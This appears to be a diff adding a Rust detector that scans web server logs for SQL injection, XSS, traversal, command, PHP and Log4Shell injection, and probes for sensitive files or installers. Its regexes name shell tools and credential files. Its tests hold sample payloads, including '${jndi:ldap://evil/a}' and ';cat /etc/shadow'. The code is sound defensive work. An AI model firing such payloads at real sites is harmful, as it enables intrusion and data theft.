@@ -1,0 +1,683 @@
+//! `web-attack`: exploitation attempts visible in request targets, and sensitive files.
+//!
+//! Rules: `web.sqli`, `web.xss`, `web.traversal`, `web.cmdi`, `web.php_injection`,
+//! `web.jndi`, `web.sensitive_file`, `web.installer`.
+//!
+//! Targets are decoded (see [`crate::decode`]) and screened with a literal prefilter before
+//! the regular expressions run, so ordinary shop traffic costs one Aho-Corasick pass.
+//! Findings are grouped per rule and client IP when the server answered 2xx to at least one
+//! attempt (medium; a sensitive file served with a body, or a reachable installer, is high).
+//! Attempts that were all refused (3xx/4xx/5xx) are grouped into one low finding per rule
+//! listing the IPs: context, not compromise. Known false positives: sites that answer every
+//! path with 200 (soft 404) are recognised when many distinct sensitive paths return the
+//! same size, and are reported at medium with that caveat.
+
+use std::collections::BTreeMap;
+use std::net::IpAddr;
+use std::sync::Arc;
+
+use aho_corasick::AhoCorasick;
+use ecir_model::{Category, Event, Finding, Severity};
+use regex::bytes::RegexSet;
+use rustc_hash::FxHashMap;
+
+use crate::decode::decode_target;
+use crate::evidence::{SmallestSet, Span, TopEvidence};
+use crate::{downcast, DetectConfig, DetectorState, FinishContext, Origin};
+
+pub const RULES: &[&str] = &[
+    "web.sqli",
+    "web.xss",
+    "web.traversal",
+    "web.cmdi",
+    "web.php_injection",
+    "web.jndi",
+    "web.sensitive_file",
+    "web.installer",
+];
+
+#[derive(Copy, Clone, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
+pub enum Class {
+    Sqli,
+    Xss,
+    Traversal,
+    Cmdi,
+    Php,
+    Jndi,
+    Sensitive,
+    Installer,
+}
+
+impl Class {
+    fn rule(self) -> &'static str {
+        RULES[self as usize]
+    }
+    fn label(self) -> &'static str {
+        match self {
+            Class::Sqli => "SQL injection",
+            Class::Xss => "cross-site scripting",
+            Class::Traversal => "path traversal / local file inclusion",
+            Class::Cmdi => "command injection",
+            Class::Php => "PHP code injection",
+            Class::Jndi => "JNDI (Log4Shell) injection",
+            Class::Sensitive => "sensitive file access",
+            Class::Installer => "installer access",
+        }
+    }
+}
+
+/// Literal screens on the decoded, lower-cased target: no hit, no regex.
+const SCREEN: &[&str] = &[
+    "select",
+    "union",
+    "sleep(",
+    "benchmark(",
+    "waitfor",
+    "'",
+    "\"",
+    "<",
+    ">",
+    "javascript:",
+    "onerror",
+    "onload",
+    "../",
+    "..\\",
+    "/etc/",
+    "passwd",
+    "php://",
+    "file://",
+    "data:",
+    ";",
+    "|",
+    "`",
+    "$(",
+    "${",
+    "/bin/",
+    "wget",
+    "curl",
+    "base64",
+    "eval(",
+    "system(",
+    "exec",
+    "information_schema",
+    "0x",
+    "--",
+    "/*",
+    "\0",
+    "cmd",
+    "win.ini",
+    "() {",
+    "<?",
+    "phpinfo",
+    "allow_url",
+    "auto_prepend",
+    "concat(",
+    "char(",
+    "extractvalue",
+    "updatexml",
+    "load_file",
+    "outfile",
+    "jndi",
+    "alert(",
+    "document.",
+    "fromcharcode",
+    "/proc/",
+    "boot.ini",
+    "powershell",
+    "assert(",
+    "passthru",
+    "shell_exec",
+    "popen",
+    "proc_open",
+    "$_",
+    "eval-stdin",
+    "invokefunction",
+    "md5(",
+    "gettemplatefilter",
+    "addafterfiltercallback",
+];
+
+/// Attack patterns per class, applied to the decoded target.
+const PATTERNS: &[(Class, &str)] = &[
+    (
+        Class::Sqli,
+        r"union(\s|/\*.*?\*/|\+)+(all(\s|/\*.*?\*/)+)?(distinct\s+)?select",
+    ),
+    (
+        Class::Sqli,
+        r"\bselect\b.{1,100}\bfrom\b.{1,100}\b(where|information_schema|dual|mysql\.|pg_|sys)",
+    ),
+    (
+        Class::Sqli,
+        r"'\s*(or|and|\|\||&&)\s*('|\d|\(|true|false|not\b)",
+    ),
+    (Class::Sqli, r#"["')]\s*(or|and)\s+\d+\s*[=<>]\s*\d+"#),
+    (Class::Sqli, r"\b(or|and)\s+\d+\s*=\s*\d+\s*(--|#|/\*)"),
+    (
+        Class::Sqli,
+        r"\b(sleep|pg_sleep)\s*\(\s*\d+|benchmark\s*\(\s*\d+|waitfor\s+delay\s+'",
+    ),
+    (
+        Class::Sqli,
+        r"information_schema|\b(extractvalue|updatexml|load_file)\s*\(|into\s+(out|dump)file|@@version|\bxp_cmdshell",
+    ),
+    (
+        Class::Sqli,
+        r"concat(_ws)?\s*\(.{0,40}0x[0-9a-f]+|char\s*\(\s*\d+\s*(,\s*\d+\s*){2,}\)|'\s*;\s*(drop|insert|update|delete|shutdown)\b|'\s*(--|#)",
+    ),
+    (
+        Class::Xss,
+        r"<\s*/?\s*(script|iframe|svg|object|embed|applet|body|img|video|audio|details|marquee|base|form|math|style|link|meta)\b[^>]*",
+    ),
+    (
+        Class::Xss,
+        r#"\bon(error|load|mouseover|mouseenter|focus|blur|click|toggle|animationstart|pageshow|begin|start)\s*="#,
+    ),
+    (
+        Class::Xss,
+        r"javascript\s*:|vbscript\s*:|document\.(cookie|domain|location)|string\.fromcharcode|\balert\s*\(|\bprompt\s*\(|\bconfirm\s*\(|data:text/html",
+    ),
+    (
+        Class::Traversal,
+        r"(\.\./|\.\.\\){1,}|/etc/(passwd|shadow|hosts|group)|/proc/self/(environ|cmdline|fd)|win\.ini|boot\.ini|\x00|php://filter|file:///",
+    ),
+    (
+        Class::Cmdi,
+        r"[;|`&]\s*(id|uname|whoami|cat|ls|wget|curl|bash|sh|nc|ncat|netcat|python[0-9.]*|perl|php|chmod|rm|echo|busybox|ping|nslookup|sleep)\b",
+    ),
+    (
+        Class::Cmdi,
+        r"\$\(\s*(id|uname|whoami|cat|wget|curl|sleep|echo|nslookup)\b|`\s*(id|uname|whoami|cat|wget|curl|sleep|echo)\b|/bin/(ba|z|da)?sh\b|\bcmd(\.exe)?\s*/c\b|\bpowershell(\.exe)?\b|\(\)\s*\{\s*:?\s*;\s*\}|\b(wget|curl)\s+(-\w+\s+)*https?://",
+    ),
+    (
+        Class::Php,
+        r"<\?php|<\?=|php://input|data://text/plain;base64|allow_url_include|auto_prepend_file|\b(base64_decode|system|passthru|shell_exec|proc_open|popen|phpinfo|assert|call_user_func(_array)?|create_function|file_put_contents|fwrite|eval)\s*\(",
+    ),
+    (
+        Class::Php,
+        r"\$_(get|post|request|cookie|server)\s*\[|die\s*\(\s*@?md5\s*\(|/vendor/phpunit/.*eval-stdin\.php|invokefunction&function=|gettemplatefilter|addafterfiltercallback|\{\{\s*(var\s+)?this\.",
+    ),
+    (
+        Class::Jndi,
+        r"\$\{\s*(jndi|\$\{|lower:|upper:|env:|sys:|::-j|date:)",
+    ),
+];
+
+/// Sensitive files: `(pattern, description)`, on the decoded lower-case path.
+const SENSITIVE: &str = r"(?x)
+    /\.env(\.[a-z0-9_.-]+)?$ | /\.git(/|$) | /\.svn(/|$) | /\.hg(/|$) | /\.htpasswd$ | /\.htaccess$
+  | /\.ds_store$ | /\.aws/ | /\.ssh/ | /id_[rd]sa(\.pub)?$ | /\.bash_history$ | /\.npmrc$ | /\.docker
+  | /wp-config\.php(\.|~|\#|_)[a-z0-9~\#]* | \.(php|inc|conf|config|ini|yml|yaml|xml|json)\.(bak|old|orig|save|swp|swo|tmp|dist|backup|1|2|txt)$
+  | \.php~$ | /(backup|backups|bak|db|dump|database|site|www|html|public_html|sql|data|shop|eccube|magento|wordpress)[a-z0-9_-]*\.(sql|zip|tar|tgz|gz|bz2|7z|rar)(\.gz)?$
+  | \.sql(\.gz|\.zip|\.bz2|\.tar)?$
+  | /data/logs/ | /data/config/config\.php | /data/smarty/templates/ | /data/cache/
+  | /app/etc/env\.php$ | /app/etc/local\.xml$ | /app/config/eccube/ | /var/log/ | /var/backups?/
+  | /composer\.(json|lock)$ | /web\.config$ | /phpinfo\.php$ | /info\.php$ | /server-status | /server-info
+  | /config\.php\.bak$ | /configuration\.php\.(bak|old)$ | /\.well-known/security\.txt\.bak$
+";
+
+/// Installer routes that should not answer once a shop is installed.
+const INSTALLER: &str = r"(?x)
+    ^/install(/|\.php$|$) | ^/html/install\.php$ | ^/eccube[^/]*/install | ^/setup(/|$)
+  | /wp-admin/(install|setup-config)\.php$ | ^/install/index\.php
+";
+
+/// Screens for path-only rules.
+const PATH_SCREEN: &[&str] = &[
+    "/.",
+    ".bak",
+    ".old",
+    ".orig",
+    ".save",
+    ".sw",
+    ".sql",
+    ".zip",
+    ".tar",
+    ".tgz",
+    ".gz",
+    ".7z",
+    ".rar",
+    "~",
+    "/data/",
+    "/app/",
+    "/var/",
+    "composer.",
+    "web.config",
+    "install",
+    "setup",
+    "phpinfo",
+    "info.php",
+    "server-",
+    "config",
+    "id_rsa",
+    "id_dsa",
+    ".env",
+    ".dist",
+    ".1",
+    ".2",
+    ".txt",
+    ".bz2",
+    "#",
+];
+
+struct Matchers {
+    screen: AhoCorasick,
+    patterns: RegexSet,
+    path_screen: AhoCorasick,
+    sensitive: regex::bytes::Regex,
+    installer: regex::bytes::Regex,
+}
+
+fn matchers() -> &'static Matchers {
+    static M: std::sync::OnceLock<Matchers> = std::sync::OnceLock::new();
+    M.get_or_init(|| Matchers {
+        screen: AhoCorasick::new(SCREEN).expect("screen patterns"),
+        patterns: RegexSet::new(PATTERNS.iter().map(|(_, p)| format!("(?s-u){p}")))
+            .expect("attack patterns"),
+        path_screen: AhoCorasick::new(PATH_SCREEN).expect("path screen"),
+        sensitive: regex::bytes::Regex::new(&format!("(?-u){SENSITIVE}")).expect("sensitive"),
+        installer: regex::bytes::Regex::new(&format!("(?-u){INSTALLER}")).expect("installer"),
+    })
+}
+
+/// Classifies one request. Exposed for tests and other detectors.
+pub fn classify(target: &str, user_agent: Option<&str>, scratch: &mut Vec<u8>) -> Vec<Class> {
+    let m = matchers();
+    let mut out = Vec::new();
+    decode_target(target, scratch);
+    let decoded: &[u8] = scratch;
+    if m.screen.is_match(decoded) {
+        let hits = m.patterns.matches(decoded);
+        for i in hits.iter() {
+            let c = PATTERNS[i].0;
+            if !out.contains(&c) {
+                out.push(c);
+            }
+        }
+    }
+    let path_end = memchr::memchr(b'?', decoded).unwrap_or(decoded.len());
+    let path = &decoded[..path_end];
+    if m.path_screen.is_match(path) {
+        if m.installer.is_match(path) {
+            out.push(Class::Installer);
+        } else if m.sensitive.is_match(path) {
+            out.push(Class::Sensitive);
+        }
+    }
+    if let Some(ua) = user_agent {
+        if ua.contains("${") && !out.contains(&Class::Jndi) {
+            let lower = ua.to_ascii_lowercase();
+            if m.patterns
+                .matches(lower.as_bytes())
+                .iter()
+                .any(|i| PATTERNS[i].0 == Class::Jndi)
+            {
+                out.push(Class::Jndi);
+            }
+        }
+        if ua.contains("() {") && !out.contains(&Class::Cmdi) {
+            out.push(Class::Cmdi); // Shellshock in the User-Agent
+        }
+    }
+    out
+}
+
+#[derive(Default)]
+struct Group {
+    count: u64,
+    ok: u64,
+    /// Largest 2xx body, and distinct 2xx sizes (for the soft-404 check).
+    max_ok_bytes: u64,
+    span: Span,
+    paths: SmallestSet<String>,
+    evidence: TopEvidence,
+}
+
+impl Group {
+    fn new() -> Self {
+        Group {
+            paths: SmallestSet::new(10),
+            ..Default::default()
+        }
+    }
+    fn merge(&mut self, o: Group) {
+        self.count += o.count;
+        self.ok += o.ok;
+        self.max_ok_bytes = self.max_ok_bytes.max(o.max_ok_bytes);
+        self.span.merge(o.span);
+        self.paths.merge(o.paths);
+        self.evidence.merge(o.evidence);
+    }
+}
+
+/// State of the web-attack detector.
+pub struct WebAttack {
+    config: Arc<DetectConfig>,
+    groups: FxHashMap<(Class, Option<IpAddr>), Group>,
+    /// (path, size) of sensitive paths answered 2xx, to spot soft-404 sites.
+    ok_sensitive_sizes: BTreeMap<u64, SmallestSet<String>>,
+    scratch: Vec<u8>,
+}
+
+impl WebAttack {
+    pub fn new(config: Arc<DetectConfig>) -> Self {
+        WebAttack {
+            config,
+            groups: FxHashMap::default(),
+            ok_sensitive_sizes: BTreeMap::new(),
+            scratch: Vec::with_capacity(256),
+        }
+    }
+}
+
+impl DetectorState for WebAttack {
+    fn observe(&mut self, ev: &Event<'_>, origin: &Origin<'_>) {
+        let Some(target) = ev.target.as_deref() else {
+            return;
+        };
+        let classes = classify(target, ev.user_agent.as_deref(), &mut self.scratch);
+        if classes.is_empty() {
+            return;
+        }
+        let ok = ev.is_success();
+        let bytes = ev.bytes.unwrap_or(0);
+        for class in classes {
+            let g = self
+                .groups
+                .entry((class, ev.client_ip))
+                .or_insert_with(Group::new);
+            g.count += 1;
+            g.span.add(ev.ts);
+            let path = ev.path();
+            g.paths.insert(truncate(path, 200));
+            let weight = match ev.status {
+                Some(200..=299) => 100 + u32::from(bytes > self.config.exposure_min_bytes) * 50,
+                Some(300..=399) => 40,
+                Some(500..=599) => 30,
+                _ => 10,
+            };
+            g.evidence.offer(origin, ev.ts, weight);
+            if ok {
+                g.ok += 1;
+                g.max_ok_bytes = g.max_ok_bytes.max(bytes);
+                if class == Class::Sensitive && bytes > self.config.exposure_min_bytes {
+                    self.ok_sensitive_sizes
+                        .entry(bytes)
+                        .or_insert_with(|| SmallestSet::new(4))
+                        .insert(truncate(path, 200));
+                }
+            }
+        }
+    }
+
+    fn merge(&mut self, other: Box<dyn DetectorState>) {
+        let other: WebAttack = downcast(other);
+        for (k, g) in other.groups {
+            match self.groups.get_mut(&k) {
+                Some(mine) => mine.merge(g),
+                None => {
+                    self.groups.insert(k, g);
+                }
+            }
+        }
+        for (size, paths) in other.ok_sensitive_sizes {
+            self.ok_sensitive_sizes
+                .entry(size)
+                .or_insert_with(|| SmallestSet::new(4))
+                .merge(paths);
+        }
+    }
+
+    fn finish(self: Box<Self>, _ctx: &FinishContext) -> Vec<Finding> {
+        // Sizes shared by 3+ distinct sensitive paths look like a catch-all page.
+        let soft_404_sizes: Vec<u64> = self
+            .ok_sensitive_sizes
+            .iter()
+            .filter(|(_, p)| p.items().len() >= 3)
+            .map(|(s, _)| *s)
+            .collect();
+        let min_bytes = self.config.exposure_min_bytes;
+        let mut successes = Vec::new();
+        let mut refused: BTreeMap<Class, (Group, Vec<Option<IpAddr>>)> = BTreeMap::new();
+        let mut groups: Vec<_> = self.groups.into_iter().collect();
+        groups.sort_by(|a, b| a.0.cmp(&b.0));
+        for ((class, ip), g) in groups {
+            if g.ok == 0 {
+                let entry = refused
+                    .entry(class)
+                    .or_insert_with(|| (Group::new(), Vec::new()));
+                entry.0.merge(g);
+                entry.1.push(ip);
+                continue;
+            }
+            let mut severity = Severity::Medium;
+            let mut note = String::new();
+            if matches!(class, Class::Sensitive | Class::Installer) {
+                if g.max_ok_bytes > min_bytes {
+                    if soft_404_sizes.contains(&g.max_ok_bytes) {
+                        note = " Several different sensitive paths returned exactly the same size, which looks like a catch-all page (soft 404): check one by hand.".into();
+                    } else {
+                        severity = Severity::High;
+                    }
+                } else {
+                    note = format!(
+                        " The 2xx bodies were at most {} bytes, too small to be the file itself.",
+                        g.max_ok_bytes
+                    );
+                    severity = Severity::Low;
+                }
+            }
+            let who = ip.map_or("an unknown client".to_string(), |i| i.to_string());
+            let mut f = Finding::new(class.rule(), Category::WebAttack, severity);
+            f.title = match class {
+                Class::Sensitive if severity == Severity::High => {
+                    format!("Sensitive file served to {who}")
+                }
+                Class::Installer if severity == Severity::High => {
+                    format!("Installer answered {who}")
+                }
+                _ => format!(
+                    "{} attempts from {who} answered 2xx",
+                    capitalize(class.label())
+                ),
+            };
+            f.summary = format!(
+                "{} {} request(s) from {who}, {} answered 2xx (largest body {} bytes).{note} {}",
+                g.count,
+                class.label(),
+                g.ok,
+                g.max_ok_bytes,
+                advice(class, severity)
+            );
+            f.first_seen = g.span.first;
+            f.last_seen = g.span.last;
+            f.ips = ip.map(|i| vec![i.to_string()]).unwrap_or_default();
+            f.paths = g.paths.items().to_vec();
+            f.count = g.count;
+            f.evidence = g.evidence.into_vec();
+            successes.push(f);
+        }
+        for (class, (g, ips)) in refused {
+            let n_ips = ips.len();
+            let mut f = Finding::new(class.rule(), Category::WebAttack, Severity::Low);
+            f.title = format!(
+                "{} probes from {n_ips} IP(s), all refused",
+                capitalize(class.label())
+            );
+            f.summary = format!(
+                "{} {} request(s) from {n_ips} client(s); none was answered 2xx. Context for other findings, not a compromise on its own.",
+                g.count,
+                class.label()
+            );
+            f.first_seen = g.span.first;
+            f.last_seen = g.span.last;
+            let mut ip_list: Vec<String> = ips.iter().flatten().map(|i| i.to_string()).collect();
+            ip_list.sort();
+            ip_list.truncate(50);
+            f.ips = ip_list;
+            f.paths = g.paths.items().to_vec();
+            f.count = g.count;
+            f.evidence = g.evidence.into_vec();
+            successes.push(f);
+        }
+        successes
+    }
+
+    fn into_any(self: Box<Self>) -> Box<dyn std::any::Any> {
+        self
+    }
+}
+
+fn advice(class: Class, severity: Severity) -> &'static str {
+    match (class, severity) {
+        (Class::Sensitive, Severity::High) => "Treat the file's secrets (database password, APP_KEY, API keys) as stolen: rotate them and remove the file from the web root.",
+        (Class::Installer, Severity::High) => "A reachable installer lets anyone reinstall the shop and take over the admin account: remove it now.",
+        (Class::Sqli, _) => "Check whether the answered requests returned data (response sizes) and review the database for new admin users.",
+        (Class::Php | Class::Cmdi | Class::Jndi, _) => "Check the server for new files and processes started around these times.",
+        _ => "Check whether the answered requests had any effect.",
+    }
+}
+
+fn capitalize(s: &str) -> String {
+    let mut c = s.chars();
+    match c.next() {
+        Some(f) => f.to_uppercase().collect::<String>() + c.as_str(),
+        None => String::new(),
+    }
+}
+
+/// Cuts `s` to at most `max` bytes on a character boundary.
+pub fn truncate(s: &str, max: usize) -> String {
+    if s.len() <= max {
+        return s.to_string();
+    }
+    let mut end = max;
+    while !s.is_char_boundary(end) {
+        end -= 1;
+    }
+    format!("{}…", &s[..end])
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::testing::{run, run_split};
+
+    fn classes(t: &str) -> Vec<&'static str> {
+        let mut v = Vec::new();
+        classify(t, None, &mut v)
+            .into_iter()
+            .map(|c| c.rule())
+            .collect()
+    }
+
+    #[test]
+    fn classifies_attacks() {
+        assert_eq!(
+            classes("/products/list?category_id=1%27%20UNION%20SELECT%201,2,3--"),
+            vec!["web.sqli"]
+        );
+        assert_eq!(
+            classes("/search?q=%3Cscript%3Ealert(1)%3C/script%3E"),
+            vec!["web.xss"]
+        );
+        assert_eq!(
+            classes("/index.php?page=../../../../etc/passwd"),
+            vec!["web.traversal"]
+        );
+        assert_eq!(
+            classes("/cgi-bin/x?c=;cat%20/etc/shadow"),
+            vec!["web.traversal", "web.cmdi"]
+        );
+        assert_eq!(classes("/?x=${jndi:ldap://evil/a}"), vec!["web.jndi"]);
+        assert_eq!(
+            classes("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
+            vec!["web.php_injection"]
+        );
+        assert_eq!(classes("/.env"), vec!["web.sensitive_file"]);
+        assert_eq!(classes("/.git/config"), vec!["web.sensitive_file"]);
+        assert_eq!(classes("/data/logs/site.log"), vec!["web.sensitive_file"]);
+        assert_eq!(classes("/app/etc/env.php"), vec!["web.sensitive_file"]);
+        assert_eq!(classes("/backup.sql.gz"), vec!["web.sensitive_file"]);
+        assert_eq!(classes("/install/index.php"), vec!["web.installer"]);
+        assert_eq!(
+            classes("/%252e%252e/%252e%252e/etc/passwd"),
+            vec!["web.traversal"]
+        );
+    }
+
+    #[test]
+    fn ordinary_shop_traffic_is_clean() {
+        for t in [
+            "/",
+            "/products/list?category_id=2&name=%E3%82%B7%E3%83%A3%E3%83%84",
+            "/products/detail/12",
+            "/shopping/confirm",
+            "/html/template/default/assets/js/function.js?v=4.2.1",
+            "/search?q=union+jack+t-shirt",
+            "/search?q=select+your+size",
+            "/blog/2024/03/why-we-love-curly-braces",
+            "/cart?item=12;jsessionid=ABC",
+            "/products/list?orderby=2&pageno=3&disp_number=20",
+            "/wp-content/themes/shop/style.css?ver=6.4",
+            "/html/install.html",
+            "/installation-guide",
+            "/envelope-set",
+            "/gitlab",
+        ] {
+            assert!(classes(t).is_empty(), "{t} => {:?}", classes(t));
+        }
+    }
+
+    #[test]
+    fn refused_probes_are_low_and_grouped() {
+        let f = run(&[
+            "198.51.100.1|GET|/?id=1%27%20or%201=1--|404|10",
+            "198.51.100.2|GET|/?id=1%27%20or%201=1--|403|10",
+        ]);
+        assert_eq!(f.len(), 1);
+        assert_eq!(f[0].severity, Severity::Low);
+        assert_eq!(f[0].ips, vec!["198.51.100.1", "198.51.100.2"]);
+        assert_eq!(f[0].count, 2);
+    }
+
+    #[test]
+    fn sensitive_file_with_body_is_high_soft404_is_not() {
+        let f = run(&[
+            "203.0.113.9|GET|/.env|200|812",
+            "203.0.113.9|GET|/.env.bak|404|10",
+        ]);
+        assert_eq!(f[0].severity, Severity::High);
+        assert_eq!(f[0].rule, "web.sensitive_file");
+        assert_eq!(
+            f[0].evidence[0].line, 1,
+            "the served line is the most telling"
+        );
+
+        let f = run(&[
+            "203.0.113.9|GET|/.env|200|5120",
+            "203.0.113.9|GET|/.git/config|200|5120",
+            "203.0.113.9|GET|/backup.sql|200|5120",
+        ]);
+        assert_eq!(f[0].severity, Severity::Medium);
+        assert!(f[0].summary.contains("soft 404"));
+
+        let f = run(&["203.0.113.9|GET|/.env|200|0"]);
+        assert_eq!(f[0].severity, Severity::Low);
+    }
+
+    #[test]
+    fn merge_equals_single_pass() {
+        let lines: Vec<String> = (0..60)
+            .map(|i| {
+                format!(
+                    "198.51.100.{}|GET|/?q=<script>{i}|{}|5",
+                    i % 7,
+                    if i % 5 == 0 { 200 } else { 404 }
+                )
+            })
+            .collect();
+        let lines: Vec<&str> = lines.iter().map(|s| s.as_str()).collect();
+        assert_eq!(run(&lines), run_split(&lines, 3));
+    }
+}
